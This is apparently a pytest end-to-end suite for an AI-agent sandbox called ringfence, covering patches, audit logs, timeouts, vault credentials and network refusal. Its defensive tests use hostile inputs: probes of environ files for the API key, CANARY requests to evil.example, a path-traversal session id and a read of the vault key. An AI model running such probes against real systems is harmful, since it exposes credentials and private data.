"""`ringfence run` and `ringfence exec`, end to end."""

from __future__ import annotations

import contextlib
import json
import os
import re
import sqlite3
import subprocess

import pytest
from harness import ACCEPT, KEY, Box, bash, processes_with, script, signal, wait_for

from ringfence.sandbox import cgroups
from ringfence.simulator.server import Simulator

EDIT = {
    "tool": "Write",
    "input": {"file_path": "/workspace/new.txt", "content": "from the agent\n"},
}


def test_an_edit_is_a_patch_that_git_applies(box: Box) -> None:
    (box.workspace / "a.txt").write_text("one\n")
    done = box.run(
        script({"tool": "Read", "input": {"file_path": "/workspace/a.txt"}}, EDIT, {"text": "ok"})
    )
    assert done.code == 0, done.err + done.out
    result = done.json
    assert result["status"] == "succeeded"
    assert result["text"] == "ok"
    assert result["changed_files"] == ["new.txt"]
    assert not (box.workspace / "new.txt").exists()
    (box.place / "p.patch").write_text(result["patch"])
    subprocess.run(["git", "init", "-q"], cwd=box.workspace, check=True)
    subprocess.run(["git", "apply", str(box.place / "p.patch")], cwd=box.workspace, check=True)
    assert (box.workspace / "new.txt").read_text() == "from the agent\n"
    assert result["usage"]["requests"] == 3
    assert result["usage"]["cost_usd"] > 0


def test_apply_writes_and_holds_back_what_runs_later(box: Box) -> None:
    hook = {"tool": "Write", "input": {"file_path": "/workspace/.envrc", "content": "touch /x\n"}}
    box.policy({"preset": "ci"})
    done = box.run(script(EDIT, hook, {"text": "ok"}), "--apply")
    assert done.code == 0, done.err
    assert (box.workspace / "new.txt").read_text() == "from the agent\n"
    assert not (box.workspace / ".envrc").exists()
    assert done.json["applied"]["held"] == [".envrc"]
    again = box.call("patch", "apply", done.json["run_id"], "--include", ".envrc")
    assert again.code == 2  # new.txt is no longer as the agent saw it
    (box.workspace / "new.txt").unlink()
    again = box.call("patch", "apply", done.json["run_id"], "--include", ".envrc")
    assert again.code == 0, again.err
    assert (box.workspace / ".envrc").read_text() == "touch /x\n"


def test_direct_mode_writes_as_the_workspace_owner(box: Box) -> None:
    box.policy({"preset": "strict", "accept_unenforced": ["workspace_disk"]})
    done = box.run(script(EDIT, {"text": "ok"}), "--workspace-mode", "direct")
    assert done.code == 0, done.err + done.out
    status = (box.workspace / "new.txt").stat()
    assert status.st_uid == os.geteuid()
    assert done.json["patch"] == ""


def test_direct_mode_must_be_accepted_by_name(box: Box) -> None:
    done = box.run(script(EDIT), "--workspace-mode", "direct")
    assert done.code == 4
    assert done.json["error"]["code"] == "control-unenforceable"
    assert "workspace_disk" in done.json["error"]["message"]


def test_readonly_mode_writes_nothing(box: Box) -> None:
    done = box.run(
        script(bash("echo x > y; echo rc=$?"), {"text": "ok"}), "--workspace-mode", "readonly"
    )
    assert done.code == 0, done.err
    assert list(box.workspace.iterdir()) == []


def test_the_credential_is_nowhere(box: Box, simulator: Simulator) -> None:
    done = box.run(
        script(
            bash("env; cat /proc/*/environ | tr '\\0' '\\n'; ls -R / 2>/dev/null | head -500"),
            {"text": "ok"},
        )
    )
    assert done.code == 0, done.err
    assert KEY not in done.out + done.err
    assert all(request.headers["x-api-key"] == KEY for request in simulator.requests)
    sent = json.dumps([request.body for request in simulator.requests])
    assert KEY not in sent
    for path in box.state.rglob("*"):
        if path.is_file() and "claude" not in path.parts[-2]:
            assert KEY.encode() not in path.read_bytes(), path


def test_every_call_is_in_the_audit_log_and_it_verifies(box: Box) -> None:
    done = box.run(
        script(bash("echo hi"), {"tool": "Bash", "input": {"command": "exit 3"}}, {"text": "ok"})
    )
    assert done.code == 0, done.err
    kinds = [record["type"] for record in box.records()]
    for kind in (
        "run.started",
        "sandbox.started",
        "tool.decided",
        "tool.requested",
        "tool.finished",
        "model.requested",
        "model.answered",
        "sandbox.stopped",
        "run.ended",
    ):
        assert kind in kinds, kind
    assert kinds.count("tool.decided") == kinds.count("tool.requested") == 2
    decided = {
        r["tool_use_id"]: r["input_hmac"] for r in box.records() if r["type"] == "tool.decided"
    }
    asked = {
        r["tool_use_id"]: r["input_hmac"] for r in box.records() if r["type"] == "tool.requested"
    }
    assert set(decided) == set(asked)
    answered = [r for r in box.records() if r["type"] == "model.answered"]
    requested = [r for r in box.records() if r["type"] == "model.requested"]
    assert {r["request_id"] for r in answered} == {r["request_id"] for r in requested}
    assert all(r["model"] and r["status"] == 200 and r["cost_usd"] > 0 for r in answered)
    (ended,) = [r for r in box.records() if r["type"] == "run.ended"]
    assert ended["input_tokens"] == sum(r["input_tokens"] for r in answered)
    assert ended["cost_usd"] == pytest.approx(sum(r["cost_usd"] for r in answered))
    assert ended["requests"] == sum(r["billed"] for r in answered)
    finished = [r for r in box.records() if r["type"] == "tool.finished"]
    assert sorted(r["outcome"] for r in finished) == ["failure", "success"]
    assert all(r["duration_ms"] > 0 and r["input_hmac"] for r in finished)
    verify = box.call("audit", "verify")
    assert verify.code == 0, verify.out + verify.err


def test_a_tool_that_the_wire_refuses_is_named_in_the_record(box: Box) -> None:
    box.run(script({"tool": "WebFetch", "input": {"url": "http://x", "prompt": "y"}}))
    asked = [r for r in box.records() if r["type"] == "tool.requested"]
    assert {(r["name"], r["complete"]) for r in asked} == {("WebFetch", False)}


def test_each_refusal_is_in_the_record_by_its_name_and_without_its_query(box: Box) -> None:
    """By the standard library's client, which asks by HTTP/1.0 before Python 3.12."""
    hosts = ["api.anthropic.com", "unresolvable.example.com"]
    box.policy({"preset": "strict", "network": {"allowed_hosts": hosts}})
    ask = "import sys, urllib.request as u\nfor url in sys.argv[1:]:\n try: u.urlopen(url)\n except Exception as e: print(e)"
    (box.workspace / "ask.py").write_text(ask)
    urls = "'http://evil.example/a?CANARY' https://evil.example/b?CANARY https://unresolvable.example.com/c?CANARY"
    done = box.execute(f"python3 ask.py {urls}")
    assert done.code == 0, done.err
    refused = [r for r in box.records() if r["type"] == "egress.refused"]
    assert [(r["target"], r["reason"]) for r in refused] == [
        ("http://evil.example/a", "plain-http"),
        ("evil.example:443", "host-not-allowed"),
        ("unresolvable.example.com:443", "name-not-resolved"),
    ]


def test_a_call_that_never_ended_has_an_end_in_the_record(box: Box) -> None:
    box.run(script(bash("tail -f /dev/null")), "--timeout", "20")
    (finished,) = [r for r in box.records() if r["type"] == "tool.finished"]
    assert finished["outcome"] in {"interrupted", "unknown"}
    assert finished["duration_ms"] > 100


def test_resume_from_another_directory(box: Box, simulator: Simulator) -> None:
    first = box.run(script(bash("echo remembered"), {"text": "first"}))
    assert first.code == 0, first.err
    elsewhere = box.place / "elsewhere"
    elsewhere.mkdir()
    box.workspace = elsewhere
    simulator.requests.clear()
    second = box.run(script({"text": "second"}), "--resume", first.json["session_id"])
    assert second.code == 0, second.err + second.out
    assert second.json["session_id"] == first.json["session_id"]
    assert "remembered" in json.dumps(simulator.requests[0].body["messages"])
    forked = box.run(script({"text": "third"}), "--resume", first.json["session_id"], "--fork")
    assert forked.code == 0, forked.err + forked.out
    assert forked.json["session_id"] != first.json["session_id"]
    assert "remembered" in json.dumps(simulator.requests[-1].body["messages"])
    changes = [r for r in box.records() if r["type"] == "session.changed"]
    assert [r["action"] for r in changes[-2:]] == ["resumed", "forked"]
    assert changes[-1]["parent"] == first.json["session_id"]


def test_resuming_never_widens_the_policy(box: Box) -> None:
    first = box.run(script(EDIT, {"text": "first"}))
    assert first.code == 0
    box.policy({"preset": "review"})
    second = box.run(script(EDIT, {"text": "second"}), "--resume", first.json["session_id"])
    assert second.json["changed_files"] == []


def test_a_transcript_that_cannot_be_kept_ends_the_run(box: Box) -> None:
    """Architecture 1: the mirror is eager, and its error stops the run."""
    wait = "touch began; until [ -e /workspace/go ]; do sleep 0.1; done"
    (box.workspace / "wait.sh").write_text(wait)
    accepted = {"accept_unenforced": ["workspace_disk"]}
    box.policy({"preset": "strict", "filesystem": {"workspace": "direct"}, **accepted})
    process = box.spawn(
        *("run", script(bash("sh wait.sh"), bash("true"), {"text": "ok"}), "--output", "json"),
        *("--workspace", str(box.workspace), "--policy", str(box.place / "policy.yaml")),
    )
    assert wait_for((box.workspace / "began").exists, 60), process.communicate(timeout=30)
    with contextlib.closing(sqlite3.connect(box.state / "sessions.sqlite")) as other:
        other.execute("UPDATE lease SET token = token + 1")  # another run has taken it over
        other.commit()
    (box.workspace / "go").touch()
    out, err = process.communicate(timeout=90)
    assert process.returncode == 4, out + err
    assert json.loads(out)["error"]["code"] == "transcript-lost"
    assert "flush failed" not in err, "what the SDK logs quotes frames from inside"
    (ended,) = [r for r in box.records() if r["type"] == "run.ended"]
    assert (ended["status"], ended["reason"]) == ("failed", "transcript-lost")


def test_an_unknown_session_is_one_clear_line(box: Box) -> None:
    done = box.run("hi", "--resume", "11111111-1111-4111-8111-111111111111")
    assert done.code == 2
    assert done.json["error"]["code"] == "session-unknown"
    alone = box.run("hi", "--fork")
    assert (alone.code, alone.json["error"]["code"]) == (2, "usage")
    traversal = box.run("hi", "--resume", "../../etc/passwd")
    assert traversal.code == 2
    assert "Traceback" not in traversal.err


def test_exec_is_the_seed_contract(box: Box) -> None:
    done = box.execute("echo out; echo $TASK; echo err >&2; exit 7", "--task", "the task")
    assert done.code == 7
    assert done.json["exit_code"] == 7
    assert done.json["output"] == "out\nthe task\n"
    assert done.json["errors"] == "err\n"
    assert box.execute("true").code == 0


def test_a_timeout_ends_with_124_and_leaves_nobody(box: Box) -> None:
    marker = f"rf-timeout-{os.getpid()}"
    done = box.execute(
        f"setsid sleep 300 {marker} & exec -a {marker} sleep 300", "--timeout", "2", seconds=30
    )
    assert done.code == 124, done.out + done.err
    assert wait_for(lambda: not processes_with(marker), 1)


def test_a_run_timeout_keeps_the_patch(box: Box) -> None:
    done = box.run(
        script(EDIT, bash("tail -f /dev/null"), {"text": "never"}), "--timeout", "6", seconds=60
    )
    assert done.code == 124, done.out + done.err
    assert done.json["status"] == "expired"
    assert done.json["changed_files"] == ["new.txt"]


def test_a_tool_timeout(box: Box) -> None:
    box.policy({"preset": "strict", "execution": {"max_tool_seconds": 2}})
    done = box.run(script(bash("tail -f /dev/null"), {"text": "after"}), seconds=60)
    assert done.code == 124, done.out + done.err
    assert done.json["error"]["code"] == "tool-timeout"
    assert any(r["type"] == "tool.finished" and r["outcome"] == "timeout" for r in box.records())


def _started(box: Box, marker: str) -> subprocess.Popen[str]:
    process = box.spawn(
        *("run", script(EDIT, bash(f"exec -a {marker} sleep 300"), {"text": "x"})),
        *("--workspace", str(box.workspace), "--policy", str(box.place / "policy.yaml")),
        *("--output", "json"),
    )
    assert wait_for(lambda: processes_with(marker), 30), process.communicate(timeout=5)
    return process


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_a_signal_ends_the_run_and_keeps_the_patch(box: Box, number: int) -> None:
    marker = f"rf-signal-{os.getpid()}-{number}"
    process = _started(box, marker)
    process.send_signal(number)
    if number == signal.SIGINT:
        wait_for(lambda: process.poll() is not None, 4)
        if process.poll() is None:
            process.send_signal(number)
    out, err = process.communicate(timeout=30)
    assert not processes_with(marker)
    result = json.loads(out)
    assert result["status"] == "cancelled", err
    assert result["changed_files"] == ["new.txt"]
    assert process.returncode == 5
    assert box.call("audit", "verify").code == 0


def test_a_kill_of_ringfence_leaves_nobody(box: Box) -> None:
    marker = f"rf-kill-{os.getpid()}"
    process = _started(box, marker)
    process.kill()
    assert wait_for(lambda: not processes_with(marker), 1)
    process.communicate(timeout=10)
    assert wait_for(lambda: not processes_with(str(box.state)), 5)
    assert [r["reason"] for r in box.records() if r["type"] == "run.lost"] == ["worker-gone"]
    assert box.call("audit", "verify").code == 0


def test_a_budget_ends_the_run(box: Box) -> None:
    steps = [bash("true", input_tokens=100_000, output_tokens=50_000) for _ in range(6)]
    done = box.run(script(*steps, {"text": "x"}), "--max-budget-usd", "1", seconds=60)
    assert done.code == 5, done.out
    assert done.json["usage"]["cost_usd"] < 4


def test_bad_input_is_one_line_and_nothing_is_left(box: Box) -> None:
    done = box.run("   ")
    assert (done.code, done.json["error"]["code"]) == (2, "usage")
    missing = box.call("run", "hi", "--workspace", str(box.place / "none"))
    assert missing.code == 2
    assert "ringfence: workspace-missing: " in missing.err
    policy = box.place / "policy.yaml"
    policy.write_text("network: {mode: open}\n")
    bad = box.run("hi")
    assert bad.code == 2
    assert bad.json["error"]["code"] == "policy-invalid"
    runs = box.state / "runs"
    assert not runs.exists() or not list(runs.iterdir())


def test_without_a_credential_it_says_what_to_do(box: Box) -> None:
    for key, code in (("two words", "credential-value"), ("schlüssel-0123", "credential-value")):
        done = box.run("hi", ANTHROPIC_API_KEY=key)
        assert (done.code, done.json["error"]["code"]) == (2, code)
        assert key not in done.out + done.err
    done = box.run("hi", ANTHROPIC_API_KEY="")
    assert done.code == 4
    assert done.json["error"]["code"] == "credential-missing"
    assert "ringfence vault set" in done.json["error"]["hint"]


def test_a_provider_that_nobody_set_is_one_clear_line(box: Box) -> None:
    box.policy({"preset": "strict", "model": {"provider": "elsewhere"}})
    done = box.run("hi")
    assert (done.code, done.json["error"]["code"]) == (2, "settings-invalid")
    assert "Traceback" not in done.err


def test_the_vault_serves_the_run(box: Box, simulator: Simulator) -> None:
    sealed = box.call("vault", "set", "anthropic", stdin="sk-ant-from-the-vault-123\n")
    assert sealed.code == 0, sealed.err
    done = box.run(script({"text": "ok"}))
    assert done.code == 0, done.err + done.out
    assert simulator.requests[-1].headers["x-api-key"] == "sk-ant-from-the-vault-123"
    assert "ANTHROPIC_API_KEY" not in done.err, "the vault's is used, and no warning lies"
    box.call("vault", "remove", "anthropic")
    done = box.run(script({"text": "ok"}))
    assert simulator.requests[-1].headers["x-api-key"] == KEY
    warnings = [line for line in done.err.splitlines() if "ANTHROPIC_API_KEY" in line]
    assert len(warnings) == 1
    listed = box.call("vault", "list")
    assert "sk-ant" not in listed.out + listed.err


def test_the_state_directory_is_never_shown_to_the_agent(box: Box) -> None:
    """Requirement L: the key that opens the vault lies there."""
    outside, inside = box.state, box.workspace / ".state"
    box.state = inside
    sealed = box.call("vault", "set", "anthropic", stdin="sk-ant-from-the-vault-123\n")
    assert sealed.code == 0, sealed.err
    done = box.execute("cat /workspace/.state/vault/key")
    assert done.code == 3
    assert done.json["error"]["code"] == "state-exposed"
    box.state = outside
    assert box.execute("true").code == 0
    box.policy({"preset": "strict", "filesystem": {"readable_paths": [str(outside / "audit")]}})
    assert box.execute("true").json["error"]["code"] == "state-exposed"


def test_a_vault_credential_goes_to_its_own_hosts_only(box: Box, simulator: Simulator) -> None:
    """Requirement L: what was sealed for one host is not sent to the operator's other upstream."""
    secret = "sk-ant-from-the-vault-123\n"
    box.call("vault", "set", "anthropic", "--host", "api.anthropic.com", stdin=secret)
    done = box.run(script({"text": "ok"}), ANTHROPIC_API_KEY="")
    assert done.code == 5
    assert simulator.requests == []
    refused = [r["reason"] for r in box.records() if r["type"] == "egress.refused"]
    assert "credential-not-for-host" in refused
    box.call("vault", "set", "anthropic", stdin=secret)
    assert box.run(script({"text": "ok"}), ANTHROPIC_API_KEY="").code == 0


def test_words_that_have_no_utf_8_are_no_crash(box: Box) -> None:
    done = box.run(script({"text": "torn \ud800 \x9b2J"}))
    assert done.code == 0, done.err
    assert done.json["text"] == "torn \ud800 \x9b2J"
    assert done.out.isascii()
    shown = box.call("sessions", "show", done.json["session_id"])
    assert shown.code == 0, shown.err
    assert "torn \ufffd" in shown.out
    as_json = box.call("sessions", "show", done.json["session_id"], "--json")
    assert as_json.code == 0, as_json.err
    assert "\\ud800" in as_json.out


def test_text_output_for_people(box: Box) -> None:
    done = box.call(
        *("run", script(EDIT, {"text": "all good\x1b[31m"}), "--workspace", str(box.workspace)),
        *("--policy", str(box.place / "policy.yaml")),
    )
    assert done.code == 0, done.err
    assert done.out == "all good\n"
    assert re.search(r"▸ Write /workspace/new.txt", done.err)
    assert "ringfence patch apply run_" in done.err
    assert "\x1b" not in done.out + done.err
    if ACCEPT:
        assert "not enforced on this host: memory" in done.err


def test_stream_json_is_one_object_a_line(box: Box) -> None:
    done = box.call(
        *("run", script(EDIT, {"text": "ok"}), "--workspace", str(box.workspace)),
        *("--policy", str(box.place / "policy.yaml"), "--output", "stream-json"),
    )
    kinds = [json.loads(line)["type"] for line in done.out.splitlines()]
    assert kinds[-1] == "result"
    assert {"tool_started", "tool_ended", "text", "turn_ended"} <= set(kinds)


def test_where_runs_must_be_anchored_they_are_or_do_not_start(box: Box) -> None:
    place = box.place / "elsewhere"
    settings = {"RINGFENCE_AUDIT__ANCHOR__FILE": str(place / "checkpoints")}
    settings["RINGFENCE_AUDIT__ANCHOR__REQUIRED"] = "true"
    refused = box.execute("touch ran", **settings)
    assert refused.code == 4
    assert "audit-anchor-failed" in refused.err + refused.out

    place.mkdir()
    done = box.execute("touch ran", **settings)
    assert done.code == 0, done.err
    verified = box.call("audit", "verify", "--json", **settings)
    assert (verified.json["ok"], verified.json["warnings"]) == (True, [])
    assert (place / "checkpoints").read_text().count("ringfence/audit\n") >= 2


@pytest.mark.skipif("memory" in ACCEPT, reason="this host does not limit memory for us")
def test_who_was_killed_for_memory_is_told(box: Box) -> None:
    """A failure says so and keeps the program's status; a success is told of it, and stands. With
    version 2 of control groups the whole sandbox goes (memory.oom.group), and nothing survives.
    """
    whole = cgroups.discover().unified
    hog = "python3 -c 'x = bytearray(SIZE << 20)'"
    box.policy({"preset": "strict", "execution": {"max_memory_mb": 256}})
    killed = box.execute(hog.replace("SIZE", "600"))
    assert killed.code == killed.json["exit_code"] == 137
    assert killed.json["error"]["code"] == "memory-exhausted"
    assert "256 MB" in killed.json["error"]["message"]
    fine = box.execute(hog.replace("SIZE", "20"))
    assert (fine.code, fine.json["error"]) == (0, None)
    stopped = [r["memory_kills"] for r in box.records() if r["type"] == "sandbox.stopped"]
    assert stopped[1:] == [0]
    assert stopped[0] > 1 if whole else stopped[0] == 1
    survived = box.call(
        *("exec", "--workspace", str(box.workspace), "--policy", str(box.place / "policy.yaml")),
        *("--", "sh", "-c", hog.replace("SIZE", "600") + "; true"),
    )
    assert survived.code == (137 if whole else 0), survived.err
    assert "killed at the sandbox's memory limit of 256 MB" in survived.err
